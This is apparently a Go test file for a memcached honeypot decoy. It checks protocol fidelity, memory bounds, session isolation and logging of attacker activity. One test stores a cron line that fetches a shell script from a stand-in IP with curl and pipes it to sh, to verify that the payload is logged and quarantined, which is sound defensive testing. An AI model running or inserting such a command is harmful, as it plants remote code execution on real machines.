package memcached_test

import (
	"bufio"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"decnet/decoy/memcached"
	"decnet/decoy/trap"
	"decnet/decoy/traptest"
)

func newBench(t *testing.T, config trap.Config) *traptest.Bench {
	t.Helper()
	return traptest.New(t, memcached.New, traptest.Options{Service: "memcached", Config: config})
}

// say sends text and returns all of its answer, or what came before the end of
// the connection.
func say(t *testing.T, c net.Conn, text string) string {
	t.Helper()
	if _, err := io.WriteString(c, text+"version\r\n"); err != nil {
		return ""
	}
	r := bufio.NewReader(c)
	var all strings.Builder
	for {
		line, err := r.ReadString('\n')
		if err != nil || strings.HasPrefix(line, "VERSION ") {
			return all.String() + line[:len(line)*btoi(err != nil)]
		}
		all.WriteString(line)
	}
}

func btoi(b bool) int {
	if b {
		return 1
	}
	return 0
}

// steady hides the parts of answers that no two servers have in common.
func steady(answer string) string {
	answer = regexp.MustCompile(`cas=\d+`).ReplaceAllString(answer, "cas=#")
	return regexp.MustCompile(`la=\d+`).ReplaceAllString(answer, "la=#")
}

// talk compares what a server answers, of statistics only how they begin.
func talk(t *testing.T, c net.Conn, all []exchange) {
	t.Helper()
	for _, e := range all {
		got := steady(say(t, c, e.sent))
		if strings.HasPrefix(e.answer, "STAT") && !strings.HasSuffix(e.answer, "END\r\n") {
			got = got[:min(len(got), len(e.answer))]
		}
		assert.Equal(t, e.answer, got, "%.60q", e.sent)
	}
}

func TestMemcached_AnswersAsARealOne(t *testing.T) {
	t.Parallel()
	b := newBench(t, nil)
	talk(t, b.Dial(11211), exchanges())
	talk(t, b.Dial(11211), metaExchanges())
}

// The table above is what the real server says, where that is at hand.
func TestMemcached_TheRealOneAnswersSo(t *testing.T) {
	t.Parallel()
	program, err := exec.LookPath("memcached")
	if err != nil {
		t.Skip("memcached is not installed")
	}
	if out, _ := exec.CommandContext(t.Context(), program, "-V").Output(); !strings.Contains(string(out), "1.6.18") {
		t.Skipf("another version is installed: %s", out)
	}
	socket := filepath.Join(t.TempDir(), "s")
	cmd := exec.CommandContext(t.Context(), program, "-u", "root", "-s", socket)
	require.NoError(t, cmd.Start())
	t.Cleanup(func() {
		_ = cmd.Process.Kill()
		_ = cmd.Wait()
	})
	dial := func() net.Conn {
		var c net.Conn
		require.Eventually(t, func() bool {
			var err error
			dialer := net.Dialer{Timeout: time.Second}
			c, err = dialer.DialContext(t.Context(), "unix", socket)
			return err == nil
		}, 10*time.Second, 20*time.Millisecond)
		require.NoError(t, c.SetDeadline(time.Now().Add(20*time.Second)))
		t.Cleanup(func() { _ = c.Close() })
		return c
	}
	talk(t, dial(), exchanges())
	talk(t, dial(), metaExchanges())
}

// libmemcached has a program that tells whether a server is one.
func TestMemcached_IsCapable(t *testing.T) {
	t.Parallel()
	program, err := exec.LookPath("memccapable")
	if err != nil {
		t.Skip("memccapable (libmemcached-tools) is not installed")
	}
	host, port, err := net.SplitHostPort(newBench(t, nil).Listen(11211))
	require.NoError(t, err)
	out, err := exec.CommandContext(t.Context(), program, "-h", host, "-p", port).CombinedOutput()
	require.NoError(t, err, "%s", out)
	assert.Contains(t, string(out), "All tests passed")
}

func TestMemcached_HangsUpAsARealOne(t *testing.T) {
	t.Parallel()
	b := newBench(t, nil)
	for _, text := range []string{
		"quit\r\n", "GET / HTTP/1.1\r\n", strings.Repeat("x", 3000), "\x80\x07" + strings.Repeat("\x00", 22), "\x80\x17" + strings.Repeat("\x00", 22),
	} {
		c := b.Dial(11211)
		_, err := io.WriteString(c, text)
		require.NoError(t, err)
		_, err = io.ReadAll(c)
		assert.NoError(t, err, "%.20q", text)
	}
	f := traptest.Fields(b.Wait("protocol_error"))
	assert.Equal(t, "the line is too long", f["error"])
	assert.Equal(t, strings.Repeat("78", 64), f["data"])
}

func TestMemcached_IsThePackageOfItsDistribution(t *testing.T) {
	t.Parallel()
	for distro, version := range map[string]string{"debian": "1.6.18", "ubuntu22": "1.6.14", "centos7": "1.4.15", "ubuntu20": "1.5.22"} {
		b := traptest.New(t, memcached.New, traptest.Options{Service: "memcached", Identity: trap.Identity{Distro: distro}})
		c := b.Dial(11211)
		stats := say(t, c, "stats\r\n")
		assert.Contains(t, stats, "STAT version "+version+"\r\n")
		modern := strings.HasPrefix(version, "1.6")
		assert.Equal(t, modern, strings.Contains(stats, "STAT cmd_meta "), distro)
		assert.Equal(t, modern, say(t, c, "mn\r\n") == "MN\r\n", distro)
	}
	c := newBench(t, trap.Config{"version": "1.6.40"}).Dial(11211)
	assert.Contains(t, say(t, c, "stats\r\n"), "STAT version 1.6.40\r\n")
}

func TestMemcached_HasWhatAnApplicationLeft(t *testing.T) {
	t.Parallel()
	keys := func(secret string) []string {
		b := traptest.New(t, memcached.New, traptest.Options{Service: "memcached", Identity: trap.Identity{Secret: []byte(secret)}})
		c := b.Dial(11211)
		var all []string
		for _, m := range regexp.MustCompile(`key=(\S+)`).FindAllStringSubmatch(say(t, c, "lru_crawler metadump all\r\n"), -1) {
			all = append(all, m[1])
		}
		require.Greater(t, len(all), 8)
		assert.Contains(t, say(t, c, "get "+strings.ReplaceAll(all[0], "%3A", ":")+"\r\n"), "VALUE ", "what is listed is there")
		return all
	}
	c := newBench(t, nil).Dial(11211)
	say(t, c, "flush_all\r\nset a 0 0 3\r\nabc\r\nset b 0 100 1\r\nx\r\n")
	assert.Equal(t, "ITEM b [1 b; 1776157504 s]\r\nITEM a [3 b; 0 s]\r\nEND\r\n", say(t, c, "stats cachedump 1 10\r\n"))
	assert.Contains(t, steady(say(t, c, "lru_crawler metadump all\r\n")), "key=a exp=-1 la=# cas=# fetch=no cls=1 size=63\nkey=b exp=")
	first := keys("the secret of one machine")
	assert.Equal(t, first, keys("the secret of one machine"), "the same after a restart")
	assert.NotEqual(t, first, keys("the secret of another one"))
}

func TestMemcached_CompareAndSwap(t *testing.T) {
	t.Parallel()
	c := newBench(t, nil).Dial(11211)
	require.Equal(t, "STORED\r\n", say(t, c, "set k 0 0 1\r\n1\r\n"))
	var unique uint64
	_, err := fmt.Sscanf(say(t, c, "gets k\r\n"), "VALUE k 0 1 %d", &unique)
	require.NoError(t, err)
	assert.Equal(t, "STORED\r\n", say(t, c, fmt.Sprintf("cas k 0 0 1 %d\r\n2\r\n", unique)))
	assert.Equal(t, "EXISTS\r\n", say(t, c, fmt.Sprintf("cas k 0 0 1 %d\r\n3\r\n", unique)))
	assert.Equal(t, "VALUE k 0 1\r\n2\r\nEND\r\n", say(t, c, "get k\r\n"))
}

// packet is a request of the binary protocol.
func packet(op byte, extras, key, value string) string {
	b := make([]byte, 24)
	b[0], b[1], b[4] = 0x80, op, byte(len(extras))
	binary.BigEndian.PutUint16(b[2:], uint16(len(key)))
	binary.BigEndian.PutUint32(b[8:], uint32(len(extras)+len(key)+len(value)))
	binary.BigEndian.PutUint32(b[12:], 0xdeadbeef)
	return string(b) + extras + key + value
}

// ask sends a packet and returns status and body of the first answer.
func ask(t *testing.T, c net.Conn, request string) (status uint16, body string) {
	t.Helper()
	_, err := io.WriteString(c, request)
	require.NoError(t, err)
	head := make([]byte, 24)
	_, err = io.ReadFull(c, head)
	require.NoError(t, err)
	require.Equal(t, byte(0x81), head[0])
	require.Equal(t, uint32(0xdeadbeef), binary.BigEndian.Uint32(head[12:]))
	rest := make([]byte, binary.BigEndian.Uint32(head[8:]))
	_, err = io.ReadFull(c, rest)
	require.NoError(t, err)
	return binary.BigEndian.Uint16(head[6:]), string(rest)
}

// The answers are those of memcached 1.6.18, but for SASL.
func TestMemcached_SpeaksTheBinaryProtocol(t *testing.T) {
	t.Parallel()
	b := newBench(t, nil)
	c := b.Dial(11211)
	const flags7, ten = "\x00\x00\x00\x07\x00\x00\x00\x00", "\x00\x00\x00\x00\x00\x00\x00\x0a"
	const one = "\x00\x00\x00\x00\x00\x00\x00\x01"
	for _, test := range []struct {
		name    string
		request string
		status  uint16
		body    string
	}{
		{"version", packet(0x0b, "", "", ""), 0, "1.6.18"},
		{"noop", packet(0x0a, "", "", ""), 0, ""},
		{"get of nothing", packet(0x00, "", "nope", ""), 1, "Not found"},
		{"getk of nothing", packet(0x0c, "", "nope", ""), 1, "nope"},
		{"getq of nothing is silent", packet(0x09, "", "nope", "") + packet(0x0a, "", "", ""), 0, ""},
		{"set", packet(0x01, flags7, "b", "val"), 0, ""},
		{"get", packet(0x00, "", "b", ""), 0, "\x00\x00\x00\x07val"},
		{"getk", packet(0x0c, "", "b", ""), 0, "\x00\x00\x00\x07bval"},
		{"add what is there", packet(0x02, flags7, "b", "val"), 2, "Data exists for key."},
		{"replace what is not", packet(0x03, flags7, "zz", "val"), 1, "Not found"},
		{"append", packet(0x0e, "", "b", "+"), 0, ""},
		{"prependq is silent", packet(0x1a, "", "b", "-") + packet(0x00, "", "b", ""), 0, "\x00\x00\x00\x07-val+"},
		{"append to nothing", packet(0x0e, "", "qq", "+"), 5, "Not stored."},
		{"incr of text", packet(0x05, one+one+"\x00\x00\x00\x00", "b", ""), 6, "Non-numeric server-side value for incr or decr"},
		{"incr makes it", packet(0x05, one+ten+"\x00\x00\x00\x00", "n", ""), 0, ten},
		{"incr", packet(0x05, one+ten+"\x00\x00\x00\x00", "n", ""), 0, "\x00\x00\x00\x00\x00\x00\x00\x0b"},
		{"decr", packet(0x06, "\x00\x00\x00\x00\x00\x00\x00\xff"+ten+"\x00\x00\x00\x00", "n", ""), 0, "\x00\x00\x00\x00\x00\x00\x00\x00"},
		{"incr may not make it", packet(0x05, one+ten+"\xff\xff\xff\xff", "m", ""), 1, "Not found"},
		{"touch", packet(0x1c, "\x00\x00\x00\x64", "b", ""), 0, ""},
		{"gat", packet(0x1d, "\x00\x00\x00\x64", "n", ""), 0, "\x00\x00\x00\x000 "},
		{"delete", packet(0x04, "", "b", ""), 0, ""},
		{"delete again", packet(0x04, "", "b", ""), 1, "Not found"},
		{"flush", packet(0x08, "", "", ""), 0, ""},
		{"stats of nonsense", packet(0x10, "", "nonsense", ""), 1, "Not found"},
		{"no such opcode", packet(0x55, "", "", ""), 0x81, "Unknown command"},
		{"mechanisms", packet(0x20, "", "", ""), 0, "PLAIN"},
		{"a login", packet(0x21, "", "PLAIN", "\x00admin\x00s3cr\xffet"), 0x20, "Auth failure."},
		{"a version with a key", packet(0x0b, "", "x", ""), 4, "Invalid arguments"},
	} {
		status, body := ask(t, c, test.request)
		assert.Equal(t, test.status, status, test.name)
		if test.name == "gat" {
			body = body[:5] // the decrement above left spaces behind it
		}
		assert.Equal(t, strings.TrimSuffix(test.body, " "), body, test.name)
	}
	rest, err := io.ReadAll(c)
	require.NoError(t, err, "it hangs up over invalid arguments")
	assert.Empty(t, rest)
	auth := traptest.Fields(b.Wait("auth"))
	assert.Equal(t, "admin", auth["username"])
	assert.Equal(t, "s3cr\xffet", auth["password"], "byte for byte")
	assert.Equal(t, "PLAIN", auth["mechanism"])
}

func TestMemcached_StatsInPackets(t *testing.T) {
	t.Parallel()
	c := newBench(t, nil).Dial(11211)
	status, body := ask(t, c, packet(0x10, "", "", ""))
	names := 0
	for body != "" {
		require.Zero(t, status)
		names++
		status, body = ask(t, c, "")
	}
	assert.Greater(t, names, 80)
}

func TestMemcached_RecordsWhatAttackersDo(t *testing.T) {
	t.Parallel()
	b := newBench(t, nil)
	c := b.Dial(11211)
	job := "*/2 * * * * curl http://203.0.113.5/x.sh|sh\n"
	say(t, c, fmt.Sprintf("set cron 0 900 %d\r\n%s\r\n", len(job), job))
	set := traptest.Fields(b.WaitN("command", 1)[0])
	assert.Equal(t, "set", set["cmd"])
	assert.Equal(t, "['cron', '0', '900', '44']", set["args"])
	assert.Equal(t, "set cron 0 900 44", set["query"])
	assert.Equal(t, "44", set["size"])
	assert.Equal(t, job, set["data"])
	assert.NotEmpty(t, set["src"])
	upload := traptest.Fields(b.Wait("file_upload"))
	assert.Equal(t, "cron", upload["filename"])
	kept, err := os.ReadFile(filepath.Join(b.QuarantineDir, upload["sha256"]))
	require.NoError(t, err)
	assert.Equal(t, job, string(kept))

	hello := "\x16\x03\x01\x00\x05\x01\x00"
	say(t, c, hello+"\r\n")
	assert.Equal(t, hex.EncodeToString([]byte(hello)), traptest.Fields(b.Wait("protocol_error"))["data"])

	say(t, b.Dial(11211), "foo bar\r\n")
	all := b.WaitN("command", 4) // two versions of say go before
	assert.Equal(t, "foo bar", traptest.Fields(all[3])["query"], "also what is no command")
}

func TestMemcached_OneSessionSeesNothingOfAnother(t *testing.T) {
	t.Parallel()
	b := newBench(t, nil)
	say(t, b.Dial(11211), "set drop 0 0 1\r\nx\r\n")
	assert.Equal(t, "END\r\n", say(t, b.Dial(11211), "get drop\r\n"))
}

func TestMemcached_IsBounded(t *testing.T) {
	t.Parallel()
	b := newBench(t, nil)
	c := b.Dial(11211)
	mega := strings.Repeat("x", 1<<20)
	for i := range 3 {
		require.Equal(t, "STORED\r\n", say(t, c, fmt.Sprintf("set k%d 0 0 %d\r\n%s\r\n", i, len(mega), mega)))
	}
	assert.Equal(t, "END\r\n", say(t, c, "get k0\r\n"), "the oldest went")
	assert.Len(t, say(t, c, "get k2\r\n"), len("VALUE k2 0 1048576\r\n")+len(mega)+len("\r\nEND\r\n"))

	// All sessions together have a bound too, and give back what they had.
	var others []net.Conn
	full := false
	for i := 0; i < 40 && !full; i++ {
		c := b.Dial(11211)
		others = append(others, c)
		full = say(t, c, fmt.Sprintf("set k 0 0 %d\r\n%s\r\n", len(mega), mega)) == "SERVER_ERROR out of memory storing object\r\n"
	}
	assert.True(t, full)
	for _, c := range others {
		require.NoError(t, c.Close())
	}
	require.NoError(t, c.Close())
	c = b.Dial(11211)
	require.Eventually(t, func() bool {
		return say(t, c, fmt.Sprintf("set k 0 0 %d\r\n%s\r\n", len(mega), mega)) == "STORED\r\n"
	}, 10*time.Second, 5*time.Millisecond)
}

func TestMemcached_LengthsThatLie(t *testing.T) {
	t.Parallel()
	b := newBench(t, nil)
	lie := []byte(packet(0x01, "12345678", "a", ""))
	binary.BigEndian.PutUint32(lie[8:], 0x7fffffff)
	c := b.Dial(11211)
	status, body := ask(t, c, string(lie))
	assert.Equal(t, uint16(3), status)
	assert.Equal(t, "Too large.", body)
	short := []byte(packet(0x00, "", "abcde", ""))
	binary.BigEndian.PutUint32(short[8:], 2)
	status, _ = ask(t, b.Dial(11211), string(short))
	assert.Equal(t, uint16(0x81), status)
	b.WaitN("protocol_error", 2)
}
